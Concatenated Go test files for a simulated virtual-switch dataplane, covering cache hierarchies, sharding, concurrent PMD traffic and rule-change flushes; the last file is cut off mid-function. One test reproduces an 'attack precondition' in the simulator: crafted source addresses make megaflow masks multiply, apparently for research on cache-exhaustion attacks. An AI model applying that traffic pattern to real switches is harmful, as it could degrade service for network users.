// corpus through an unsharded switch and a WithShards(4) switch carrying
// the same rules, across the EMC/SMC/staged hierarchies, and demands the
// same per-frame verdicts and the same headline counters. Paths and mask
// scans are outside the contract: sharded EMC children seed their PRNGs
// per shard, and a wildcard megaflow is duplicated into every shard its
// traffic touches, so only "same decisions, same Packets/Allowed/Denied"
// is equivalence — counters modulo shard attribution.
func TestShardedMatchesUnshardedDifferential(t *testing.T) {
	hierarchies := []struct {
		name string
		opts []Option
	}{
		{"emc+tss", nil},
		{"tss-only", []Option{WithoutEMC()}},
		// InsertProb 1 keeps EMC insertion deterministic across the two
		// switches (the default 1/100 policy draws in a different order
		// per hierarchy shape, which is outside the contract).
		{"emc+smc+tss", []Option{
			WithEMC(cache.EMCConfig{InsertProb: 1}),
			WithSMC(cache.SMCConfig{Entries: 1 << 12}),
		}},
		{"staged", []Option{WithStagedPruning()}},
	}
	frames := frameCorpus()
	for _, h := range hierarchies {
		t.Run(h.name, func(t *testing.T) {
			ref := aclSwitch(h.opts...)
			shOpts := append(append([]Option{}, h.opts...), WithShards(4))
			sh := aclSwitch(shOpts...)

			var fbRef, fbSh FrameBatch
			var outRef, outSh []Decision
			// Three rounds: cold (all upcalls), warming, fully warm.
			for round := uint64(1); round <= 3; round++ {
				fbRef.Reset()
				fbSh.Reset()
				for _, f := range frames {
					fbRef.Append(f, 1)
					fbSh.Append(f, 1)
				}
				outRef = ref.ProcessFrames(round, &fbRef, outRef)
				outSh = sh.ProcessFrames(round, &fbSh, outSh)
				if len(outRef) != len(outSh) {
					t.Fatalf("round %d: decision counts diverge: %d vs %d", round, len(outRef), len(outSh))
				}
				for i := range outRef {
					if outRef[i].Verdict.Verdict != outSh[i].Verdict.Verdict {
						t.Fatalf("round %d frame %d: unsharded %v, sharded %v",
							round, i, outRef[i].Verdict.Verdict, outSh[i].Verdict.Verdict)
					}
				}
			}
			cr, cs := ref.Counters(), sh.Counters()
			if cr.Packets != cs.Packets || cr.Allowed != cs.Allowed || cr.Denied != cs.Denied {
				t.Fatalf("headline counters diverge:\nunsharded packets=%d allowed=%d denied=%d\n  sharded packets=%d allowed=%d denied=%d",
					cr.Packets, cr.Allowed, cr.Denied, cs.Packets, cs.Allowed, cs.Denied)
			}
			if cr.ParseError != cs.ParseError {
				t.Fatalf("parse errors diverge: %d vs %d", cr.ParseError, cs.ParseError)
			}
		})
	}
}

// TestShardedScalarMatchesBatch checks the scalar compatibility sweep of
// the sharded tiers against the batched walk: the same key mix through
// ProcessKey on one sharded switch and ProcessBatch on another resolves
// to identical verdicts.
func TestShardedScalarMatchesBatch(t *testing.T) {
	scalar := aclSwitch(WithShards(4))
	batch := aclSwitch(WithShards(4))
	var keys []flow.Key
	for i := 0; i < 48; i++ {
		keys = append(keys, tcpKey(0x0a000000|uint64(i), 0xac100002, uint64(30000+i%7), 443))
		keys = append(keys, tcpKey(0xcb007100|uint64(i), 0xac100002, 40000, 22))
	}
	for round := uint64(1); round <= 2; round++ {
		out := batch.ProcessBatch(round, keys, nil)
		for i, k := range keys {
			d := scalar.ProcessKey(round, k)
			if d.Verdict.Verdict != out[i].Verdict.Verdict {
				t.Fatalf("round %d key %d: scalar %v, batch %v", round, i, d.Verdict.Verdict, out[i].Verdict.Verdict)
			}
		}
	}
}

// TestWithShardsRejectsViolations: New must panic on option combinations
// that cannot honour the ConcurrentTier contract.
func TestWithShardsRejectsViolations(t *testing.T) {
	expectPanic := func(name string, opts ...Option) {
		t.Helper()
		defer func() {
			if recover() == nil {
				t.Fatalf("%s: New accepted an option combo that violates the sharded contract", name)
			}
		}()
		New("bad", opts...)
	}
	expectPanic("non-concurrent WithTiers", WithShards(4),
		WithTiers(NewEMCTier(cache.EMCConfig{})))
	expectPanic("SortByHits", WithShards(4),
		WithMegaflow(cache.MegaflowConfig{SortByHits: true}))
	expectPanic("MaskEvictLRU", WithShards(4),
		WithMegaflow(cache.MegaflowConfig{MaskEvictLRU: true}))
	expectPanic("WithTierWrapper", WithShards(4),
		WithTierWrapper(func(t Tier) Tier { return t }))

	// The concurrency-safe combos must construct.
	New("ok", WithShards(4), WithTiers(
		NewShardedEMCTier(cache.EMCConfig{}, 4),
		NewShardedMegaflowTier(cache.MegaflowConfig{}, 4)))
}

// TestSharedPMDPoolSharesState: every PMD of a shared pool views the one
// sharded switch, so a flow warmed through one view answers from cache
// on another, and the single-goroutine options are rejected.
func TestSharedPMDPoolSharesState(t *testing.T) {
	pool := NewSharedPMDPool(3, "shp")
	if !pool.Shared() {
		t.Fatal("NewSharedPMDPool did not mark the pool shared")
	}
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	pool.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	pool.InstallRule(flowtable.Rule{Priority: 0})

	k := tcpKey(0x0a00a001, 0xac100002, 33000, 443)
	if d := pool.PMD(1).ProcessKey(1, k); d.Path != PathSlow || d.Verdict.Verdict != flowtable.Allow {
		t.Fatalf("cold lookup on pmd1: got %v via %v, want slow-path Allow", d.Verdict.Verdict, d.Path)
	}
	// The megaflow minted through pmd1 serves pmd2 without an upcall.
	if d := pool.PMD(2).ProcessKey(2, k); d.Path == PathSlow {
		t.Fatal("pmd2 took the slow path for a flow pmd1 already installed; tiers are not shared")
	}
	if pool.PMD(2).Counters().Upcalls != 0 {
		t.Fatal("pmd2 charged an upcall for a shared-cache hit")
	}
	if pool.PMD(0).ShardedMegaflow() != pool.PMD(1).ShardedMegaflow() {
		t.Fatal("PMD views disagree on the sharded megaflow instance")
	}

	for _, tc := range []struct {
		name string
		opt  Option
	}{
		{"WithConntrack", WithConntrack(conntrack.Config{})},
		{"WithUpcallGuard", WithUpcallGuard(admitAllGuard{})},
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Fatalf("NewSharedPMDPool accepted %s", tc.name)
				}
			}()
			NewSharedPMDPool(2, "bad", tc.opt)
		}()
	}
}

// TestShardTargetsSurface: the per-shard revalidation targets expose one
// target per megaflow shard, conntrack on shard 0 only, and nil on an
// unsharded hierarchy.
func TestShardTargetsSurface(t *testing.T) {
	if aclSwitch().ShardTargets() != nil {
		t.Fatal("unsharded switch returned shard targets")
	}
	s := aclSwitch(WithShards(4))
	targets := s.ShardTargets()
	if len(targets) != 4 {
		t.Fatalf("got %d shard targets, want 4", len(targets))
	}
	for i, tg := range targets {
		if want := fmt.Sprintf("br0/shard%d", i); tg.Name() != want {
			t.Fatalf("target %d named %q, want %q", i, tg.Name(), want)
		}
		if len(tg.Tiers()) != 1 {
			t.Fatalf("target %d exposes %d tiers, want 1 (its megaflow shard)", i, len(tg.Tiers()))
		}
		if tg.Classifier() == nil {
			t.Fatalf("target %d has no classifier for the revalidation policy check", i)
		}
		if i > 0 && tg.Conntrack() != nil {
			t.Fatalf("target %d carries conntrack; only shard 0 may (single sweep owner)", i)
		}
	}
}

// TestShardedConcurrentPMDTraffic is the multi-writer smoke test for the
// race leg: one goroutine per PMD view pushes bursts through the shared
// sharded switch while the main goroutine runs shard maintenance
// (eviction, flow-limit trims) against the live cache. Verdicts must
// stay correct throughout and the per-view counters must add up.
func TestShardedConcurrentPMDTraffic(t *testing.T) {
	const pmds, rounds, burstLen = 4, 50, 64
	pool := NewSharedPMDPool(pmds, "race")
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	pool.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	pool.InstallRule(flowtable.Rule{Priority: 0})

	var wg sync.WaitGroup
	errs := make(chan error, pmds)
	for p := 0; p < pmds; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			sw := pool.PMD(p)
			keys := make([]flow.Key, burstLen)
			var out []Decision
			for r := 0; r < rounds; r++ {
				for i := range keys {
					// Half private flows, half shared across PMDs, so
					// installs collide with lookups on the same shards.
					src := 0x0a000000 | uint64(p)<<16 | uint64(r*burstLen+i)
					if i%2 == 0 {
						src = 0x0a7f0000 | uint64(i)
					}
					keys[i] = tcpKey(src, 0xac100002, uint64(30000+i), 443)
				}
				out = sw.ProcessBatch(uint64(r+1), keys, out)
				for i, d := range out {
					if d.Verdict.Verdict != flowtable.Allow {
						errs <- fmt.Errorf("pmd%d round %d key %d: got %v, want Allow", p, r, i, d.Verdict.Verdict)
						return
					}
				}
			}
		}(p)
	}
	smf := pool.PMD(0).ShardedMegaflow()
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	for now := uint64(1); ; now++ {
		select {
		case <-done:
			close(errs)
			for err := range errs {
				t.Fatal(err)
			}
			var total uint64
			for p := 0; p < pmds; p++ {
				total += pool.PMD(p).Counters().Packets
			}
			if want := uint64(pmds * rounds * burstLen); total != want {
				t.Fatalf("per-view packet counters sum to %d, want %d", total, want)
			}
			return
		default:
		}
		for si := 0; si < smf.NumShards(); si++ {
			smf.ShardEvictIdle(si, now)
		}
		smf.SetFlowLimit(256)
		smf.TrimToLimit()
	}
}
