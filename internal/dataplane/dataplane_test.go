package dataplane

import (
	"net/netip"
	"testing"

	"policyinject/internal/cache"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// aclSwitch builds a switch with the paper's Fig. 2a ACL installed.
func aclSwitch(opts ...Option) *Switch {
	s := New("br0", opts...)
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0}) // deny *
	return s
}

func tcpKey(src, dst uint64, sport, dport uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, src)
	k.Set(flow.FieldIPDst, dst)
	k.Set(flow.FieldTPSrc, sport)
	k.Set(flow.FieldTPDst, dport)
	return k
}

func TestPipelinePathProgression(t *testing.T) {
	s := aclSwitch()
	k := tcpKey(0x0a000001, 0x0a000002, 1234, 80)

	// First packet: slow path (upcall).
	d := s.ProcessKey(1, k)
	if d.Path != PathSlow || d.Verdict.Verdict != flowtable.Allow {
		t.Fatalf("first packet: %+v", d)
	}
	// Second identical packet: EMC.
	d = s.ProcessKey(2, k)
	if d.Path != PathEMC {
		t.Fatalf("second packet path = %v", d.Path)
	}
	// A different flow covered by the same megaflow: megaflow path.
	k2 := tcpKey(0x0a000001, 0x0a000002, 9999, 80)
	d = s.ProcessKey(3, k2)
	if d.Path != PathMegaflow {
		t.Fatalf("sibling flow path = %v (megaflow %v)", d.Path, s.Megaflow())
	}
	// ... and is then itself EMC-cached.
	if d := s.ProcessKey(4, k2); d.Path != PathEMC {
		t.Fatalf("sibling second packet path = %v", d.Path)
	}

	c := s.Counters()
	if c.Upcalls != 1 || c.EMCHits() != 2 || c.MFHits() != 1 || c.Packets != 4 {
		t.Errorf("counters: %+v", c)
	}
}

func TestVerdicts(t *testing.T) {
	s := aclSwitch()
	if d := s.ProcessKey(1, tcpKey(0x0a010101, 0, 1, 2)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("10.1.1.1 should be allowed")
	}
	if d := s.ProcessKey(1, tcpKey(0xc0a80101, 0, 1, 2)); d.Verdict.Verdict != flowtable.Deny {
		t.Error("192.168.1.1 should be denied")
	}
	c := s.Counters()
	if c.Allowed != 1 || c.Denied != 1 {
		t.Errorf("counters: %+v", c)
	}
}

func TestEmptyTableDeniesByDefault(t *testing.T) {
	s := New("br0")
	d := s.ProcessKey(1, tcpKey(1, 2, 3, 4))
	if d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("empty table must default-deny")
	}
}

func TestProcessFrame(t *testing.T) {
	s := aclSwitch()
	s.AddPort(1, "vport1")
	frame := pkt.MustBuild(pkt.Spec{
		Src:     netip.MustParseAddr("10.0.0.1"),
		Dst:     netip.MustParseAddr("10.0.0.9"),
		Proto:   pkt.ProtoTCP,
		SrcPort: 5555,
		DstPort: 80,
	})
	d, err := s.Process(1, 1, frame)
	if err != nil || d.Verdict.Verdict != flowtable.Allow {
		t.Fatalf("d=%+v err=%v", d, err)
	}
	p := s.Port(1)
	if p.RxPackets != 1 || p.RxBytes != uint64(len(frame)) {
		t.Errorf("port stats: %+v", p)
	}
}

func TestProcessFrameParseError(t *testing.T) {
	s := aclSwitch()
	s.AddPort(1, "vport1")
	_, err := s.Process(1, 1, []byte{1, 2, 3})
	if err == nil {
		t.Fatal("truncated frame accepted")
	}
	if s.Counters().ParseError != 1 {
		t.Errorf("counters: %+v", s.Counters())
	}
	if s.Port(1).RxDropped != 1 {
		t.Errorf("port drop not counted")
	}
}

func TestDeniedFrameCountsAsPortDrop(t *testing.T) {
	s := aclSwitch()
	s.AddPort(1, "vport1")
	frame := pkt.MustBuild(pkt.Spec{
		Src:   netip.MustParseAddr("192.168.0.1"),
		Dst:   netip.MustParseAddr("10.0.0.9"),
		Proto: pkt.ProtoUDP, SrcPort: 1, DstPort: 2,
	})
	if _, err := s.Process(1, 1, frame); err != nil {
		t.Fatal(err)
	}
	if s.Port(1).RxDropped != 1 {
		t.Error("deny verdict not counted as port drop")
	}
}

func TestInstallRuleFlushesCaches(t *testing.T) {
	s := aclSwitch()
	k := tcpKey(0xc0a80001, 0, 1, 2) // currently denied
	if d := s.ProcessKey(1, k); d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("precondition")
	}
	// Install an allow for 192.168/16; caches must not serve stale deny.
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0xc0a80000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 16)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 20, Action: flowtable.Action{Verdict: flowtable.Allow}})

	if d := s.ProcessKey(2, k); d.Verdict.Verdict != flowtable.Allow {
		t.Fatal("stale deny served from cache after policy change")
	}
	if s.EMC().Len() != 1 {
		t.Errorf("EMC len = %d after flush+1 packet", s.EMC().Len())
	}
}

func TestRemoveRuleFlushesCaches(t *testing.T) {
	s := New("br0")
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	allow := s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0})

	k := tcpKey(0x0a000001, 0, 1, 2)
	if d := s.ProcessKey(1, k); d.Verdict.Verdict != flowtable.Allow {
		t.Fatal("precondition")
	}
	if !s.RemoveRule(allow) {
		t.Fatal("RemoveRule failed")
	}
	if d := s.ProcessKey(2, k); d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("stale allow served after rule removal")
	}
	if s.RemoveRule(allow) {
		t.Fatal("double remove succeeded")
	}
}

func TestRevalidatorEvictsIdleMegaflows(t *testing.T) {
	s := aclSwitch(WithMaxIdle(10))
	s.ProcessKey(1, tcpKey(0x0a000001, 0, 1, 2))
	s.ProcessKey(1, tcpKey(0xc0000001, 0, 1, 2))
	if s.Megaflow().Len() != 2 {
		t.Fatalf("megaflows = %d", s.Megaflow().Len())
	}
	// Keep the first alive, let the second idle out.
	s.ProcessKey(15, tcpKey(0x0a000001, 0, 3, 4)) // megaflow hit refreshes
	if evicted := s.RunRevalidator(22); evicted != 1 {
		t.Fatalf("evicted = %d", evicted)
	}
	if s.Megaflow().Len() != 1 {
		t.Fatalf("megaflows after reval = %d", s.Megaflow().Len())
	}
}

func TestRevalidatorEarlyClock(t *testing.T) {
	s := aclSwitch(WithMaxIdle(10))
	s.ProcessKey(1, tcpKey(0x0a000001, 0, 1, 2))
	if evicted := s.RunRevalidator(5); evicted != 0 {
		t.Fatalf("evicted = %d before idle horizon", evicted)
	}
}

func TestInstallErrCountedOnFlowLimit(t *testing.T) {
	s := New("br0", WithMegaflow(cache.MegaflowConfig{FlowLimit: 1}))
	s.InstallRule(flowtable.Rule{Priority: 0}) // deny *
	s.ProcessKey(1, tcpKey(1, 0, 0, 0))
	// Second distinct flow: the megaflow cache is full. (With an empty
	// catch-all rule both packets synthesise the same megaflow, so force
	// distinct masks via an ip_src allow rule.)
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000001)
	m.Mask.SetExact(flow.FieldIPSrc)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 5, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.ProcessKey(2, tcpKey(0x80000000, 0, 0, 0)) // diverges at bit 0
	s.ProcessKey(3, tcpKey(0x40000000, 0, 0, 0)) // diverges at bit 1 -> new mask, cache full
	if got := s.Counters().InstallErr; got != 1 {
		t.Errorf("InstallErr = %d, want 1\n%s", got, s)
	}
}

func TestPorts(t *testing.T) {
	s := New("br-int")
	p1 := s.AddPort(1, "a")
	if s.AddPort(1, "dup") != p1 {
		t.Error("duplicate AddPort did not return existing port")
	}
	s.AddPort(2, "b")
	if len(s.Ports()) != 2 {
		t.Errorf("Ports() = %v", s.Ports())
	}
	if s.Port(9) != nil {
		t.Error("Port(9) should be nil")
	}
}

func TestMasksGrowPerDivergentFlow(t *testing.T) {
	// The attack precondition at dataplane level: distinct divergence
	// depths create distinct masks.
	s := New("br0")
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000001)
	m.Mask.SetExact(flow.FieldIPSrc)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0})

	for d := 0; d < 32; d++ {
		k := tcpKey(0x0a000001^(1<<uint(31-d)), 0, 0, 0)
		s.ProcessKey(uint64(d), k)
	}
	if got := s.Megaflow().NumMasks(); got != 32 {
		t.Fatalf("masks = %d, want 32", got)
	}
}

func TestStringSummary(t *testing.T) {
	s := aclSwitch()
	s.ProcessKey(1, tcpKey(0x0a000001, 0, 1, 2))
	out := s.String()
	for _, want := range []string{"br0", "2 rules", "megaflow cache"} {
		if !containsStr(out, want) {
			t.Errorf("summary missing %q:\n%s", want, out)
		}
	}
}

func containsStr(s, sub string) bool {
	return len(s) >= len(sub) && (func() bool {
		for i := 0; i+len(sub) <= len(s); i++ {
			if s[i:i+len(sub)] == sub {
				return true
			}
		}
		return false
	})()
}

func TestPipelineWithSMCPathProgression(t *testing.T) {
	// OVS 2.10 hierarchy: EMC -> SMC -> megaflow TSS. Insertion is pinned
	// to always (enabling the SMC otherwise forces emc-insert-inv-prob, see
	// TestSMCForcesProbabilisticEMCInsertion) so the path progression stays
	// deterministic.
	s := aclSwitch(WithEMC(cache.EMCConfig{InsertProb: 1}), WithSMC(cache.SMCConfig{Entries: 1 << 12}))
	k := tcpKey(0x0a000001, 0x0a000002, 1234, 80)

	// Upcall installs the megaflow and promotes into SMC and EMC.
	if d := s.ProcessKey(1, k); d.Path != PathSlow {
		t.Fatalf("first packet path = %v", d.Path)
	}
	// The EMC (tier 0) answers first for the exact flow.
	if d := s.ProcessKey(2, k); d.Path != PathEMC {
		t.Fatalf("second packet path = %v", d.Path)
	}
	// Drop the flow from the EMC only: the SMC must answer next, and the
	// hit re-promotes into the EMC.
	s.EMC().Remove(k)
	if d := s.ProcessKey(3, k); d.Path != PathSMC {
		t.Fatalf("post-EMC-eviction path = %v, want smc", d.Path)
	}
	if d := s.ProcessKey(4, k); d.Path != PathEMC {
		t.Fatalf("re-promotion failed, path = %v", d.Path)
	}

	c := s.Counters()
	if c.EMCHits() != 2 || c.SMCHits() != 1 || c.Upcalls != 1 {
		t.Errorf("counters: %+v", c)
	}
	if s.SMC() == nil || s.SMC().Len() == 0 {
		t.Error("SMC accessor empty")
	}
}

func TestSMCOnlyHierarchy(t *testing.T) {
	// EMC off, SMC on: the kernel-datapath-with-SMC experiment the old
	// hardcoded pipeline could not express.
	s := aclSwitch(WithoutEMC(), WithSMC(cache.SMCConfig{Entries: 1 << 12}))
	if s.EMC() != nil {
		t.Fatal("EMC tier present despite WithoutEMC")
	}
	k := tcpKey(0x0a000001, 0x0a000002, 1234, 80)
	if d := s.ProcessKey(1, k); d.Path != PathSlow {
		t.Fatalf("first packet path = %v", d.Path)
	}
	if d := s.ProcessKey(2, k); d.Path != PathSMC {
		t.Fatalf("second packet path = %v, want smc", d.Path)
	}
	// A sibling flow under the same megaflow: not in the SMC yet, so the
	// TSS answers, then the SMC.
	k2 := tcpKey(0x0a000001, 0x0a000002, 9999, 80)
	if d := s.ProcessKey(3, k2); d.Path != PathMegaflow {
		t.Fatalf("sibling path = %v", d.Path)
	}
	if d := s.ProcessKey(4, k2); d.Path != PathSMC {
		t.Fatalf("sibling second path = %v", d.Path)
	}
}

func TestWithTiersCustomHierarchy(t *testing.T) {
	// A hand-assembled hierarchy: SMC directly over the TSS.
	s := New("custom", WithTiers(
		NewSMCTier(cache.SMCConfig{Entries: 256}),
		NewMegaflowTier(cache.MegaflowConfig{}),
	))
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0})

	if got := len(s.Tiers()); got != 2 {
		t.Fatalf("tiers = %d", got)
	}
	k := tcpKey(0x0a000001, 0, 1, 2)
	s.ProcessKey(1, k)
	if d := s.ProcessKey(2, k); d.Path != PathSMC {
		t.Fatalf("custom hierarchy second packet path = %v", d.Path)
	}
	if s.Counters().HitsFor("smc") != 1 {
		t.Errorf("per-tier counters: %+v", s.Counters().TierHits)
	}
}

func TestTierlessSwitchStillClassifies(t *testing.T) {
	// No installer tier at all: every packet is an upcall, but verdicts
	// must stay correct (the degenerate cache-less construction).
	s := New("bare", WithTiers())
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0})
	for now := uint64(1); now <= 3; now++ {
		if d := s.ProcessKey(now, tcpKey(0x0a000001, 0, 1, 2)); d.Path != PathSlow || d.Verdict.Verdict != flowtable.Allow {
			t.Fatalf("t=%d: %+v", now, d)
		}
	}
	if c := s.Counters(); c.Upcalls != 3 {
		t.Errorf("upcalls = %d, want 3 (nothing should cache)", c.Upcalls)
	}
}

func TestProcessBatchMatchesProcessKey(t *testing.T) {
	a, b := aclSwitch(), aclSwitch()
	keys := make([]flow.Key, 0, 64)
	for i := 0; i < 64; i++ {
		keys = append(keys, tcpKey(uint64(0x0a000000+i%7), 0x0a000002, uint64(1000+i), 80))
	}
	var seq []Decision
	for _, k := range keys {
		seq = append(seq, a.ProcessKey(1, k))
	}
	batch := b.ProcessBatch(1, keys, nil)
	for i := range keys {
		if seq[i] != batch[i] {
			t.Fatalf("key %d: %+v != %+v", i, seq[i], batch[i])
		}
	}
	if a.Counters().Packets != b.Counters().Packets {
		t.Error("packet counters diverge")
	}
}

func TestTxCountersAccountAllowedFrames(t *testing.T) {
	s := aclSwitch()
	s.AddPort(1, "vport1")
	allowed := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.9"),
		Proto: pkt.ProtoTCP, SrcPort: 5555, DstPort: 80,
	})
	denied := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("192.168.0.1"), Dst: netip.MustParseAddr("10.0.0.9"),
		Proto: pkt.ProtoTCP, SrcPort: 5555, DstPort: 80,
	})
	if _, err := s.Process(1, 1, allowed); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Process(2, 1, allowed); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Process(3, 1, denied); err != nil {
		t.Fatal(err)
	}
	p := s.Port(1)
	if p.TxPackets != 2 || p.TxBytes != 2*uint64(len(allowed)) {
		t.Errorf("tx counters: packets=%d bytes=%d, want 2/%d", p.TxPackets, p.TxBytes, 2*len(allowed))
	}
	if p.RxPackets != 3 || p.RxDropped != 1 {
		t.Errorf("rx counters: %+v", p)
	}
}
