package dataplane

import (
	"net/netip"
	"testing"

	"policyinject/internal/cache"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// aclSwitch builds a switch with the paper's Fig. 2a ACL installed.
func aclSwitch(cfg Config) *Switch {
	s := New(cfg)
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0}) // deny *
	return s
}

func tcpKey(src, dst uint64, sport, dport uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, src)
	k.Set(flow.FieldIPDst, dst)
	k.Set(flow.FieldTPSrc, sport)
	k.Set(flow.FieldTPDst, dport)
	return k
}

func TestPipelinePathProgression(t *testing.T) {
	s := aclSwitch(Config{})
	k := tcpKey(0x0a000001, 0x0a000002, 1234, 80)

	// First packet: slow path (upcall).
	d := s.ProcessKey(1, k)
	if d.Path != PathSlow || d.Verdict.Verdict != flowtable.Allow {
		t.Fatalf("first packet: %+v", d)
	}
	// Second identical packet: EMC.
	d = s.ProcessKey(2, k)
	if d.Path != PathEMC {
		t.Fatalf("second packet path = %v", d.Path)
	}
	// A different flow covered by the same megaflow: megaflow path.
	k2 := tcpKey(0x0a000001, 0x0a000002, 9999, 80)
	d = s.ProcessKey(3, k2)
	if d.Path != PathMegaflow {
		t.Fatalf("sibling flow path = %v (megaflow %v)", d.Path, s.Megaflow())
	}
	// ... and is then itself EMC-cached.
	if d := s.ProcessKey(4, k2); d.Path != PathEMC {
		t.Fatalf("sibling second packet path = %v", d.Path)
	}

	c := s.Counters()
	if c.Upcalls != 1 || c.EMCHits != 2 || c.MFHits != 1 || c.Packets != 4 {
		t.Errorf("counters: %+v", c)
	}
}

func TestVerdicts(t *testing.T) {
	s := aclSwitch(Config{})
	if d := s.ProcessKey(1, tcpKey(0x0a010101, 0, 1, 2)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("10.1.1.1 should be allowed")
	}
	if d := s.ProcessKey(1, tcpKey(0xc0a80101, 0, 1, 2)); d.Verdict.Verdict != flowtable.Deny {
		t.Error("192.168.1.1 should be denied")
	}
	c := s.Counters()
	if c.Allowed != 1 || c.Denied != 1 {
		t.Errorf("counters: %+v", c)
	}
}

func TestEmptyTableDeniesByDefault(t *testing.T) {
	s := New(Config{})
	d := s.ProcessKey(1, tcpKey(1, 2, 3, 4))
	if d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("empty table must default-deny")
	}
}

func TestProcessFrame(t *testing.T) {
	s := aclSwitch(Config{})
	s.AddPort(1, "vport1")
	frame := pkt.MustBuild(pkt.Spec{
		Src:     netip.MustParseAddr("10.0.0.1"),
		Dst:     netip.MustParseAddr("10.0.0.9"),
		Proto:   pkt.ProtoTCP,
		SrcPort: 5555,
		DstPort: 80,
	})
	d, err := s.Process(1, 1, frame)
	if err != nil || d.Verdict.Verdict != flowtable.Allow {
		t.Fatalf("d=%+v err=%v", d, err)
	}
	p := s.Port(1)
	if p.RxPackets != 1 || p.RxBytes != uint64(len(frame)) {
		t.Errorf("port stats: %+v", p)
	}
}

func TestProcessFrameParseError(t *testing.T) {
	s := aclSwitch(Config{})
	s.AddPort(1, "vport1")
	_, err := s.Process(1, 1, []byte{1, 2, 3})
	if err == nil {
		t.Fatal("truncated frame accepted")
	}
	if s.Counters().ParseError != 1 {
		t.Errorf("counters: %+v", s.Counters())
	}
	if s.Port(1).RxDropped != 1 {
		t.Errorf("port drop not counted")
	}
}

func TestDeniedFrameCountsAsPortDrop(t *testing.T) {
	s := aclSwitch(Config{})
	s.AddPort(1, "vport1")
	frame := pkt.MustBuild(pkt.Spec{
		Src:   netip.MustParseAddr("192.168.0.1"),
		Dst:   netip.MustParseAddr("10.0.0.9"),
		Proto: pkt.ProtoUDP, SrcPort: 1, DstPort: 2,
	})
	if _, err := s.Process(1, 1, frame); err != nil {
		t.Fatal(err)
	}
	if s.Port(1).RxDropped != 1 {
		t.Error("deny verdict not counted as port drop")
	}
}

func TestInstallRuleFlushesCaches(t *testing.T) {
	s := aclSwitch(Config{})
	k := tcpKey(0xc0a80001, 0, 1, 2) // currently denied
	if d := s.ProcessKey(1, k); d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("precondition")
	}
	// Install an allow for 192.168/16; caches must not serve stale deny.
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0xc0a80000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 16)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 20, Action: flowtable.Action{Verdict: flowtable.Allow}})

	if d := s.ProcessKey(2, k); d.Verdict.Verdict != flowtable.Allow {
		t.Fatal("stale deny served from cache after policy change")
	}
	if s.EMC().Len() != 1 {
		t.Errorf("EMC len = %d after flush+1 packet", s.EMC().Len())
	}
}

func TestRemoveRuleFlushesCaches(t *testing.T) {
	s := New(Config{})
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
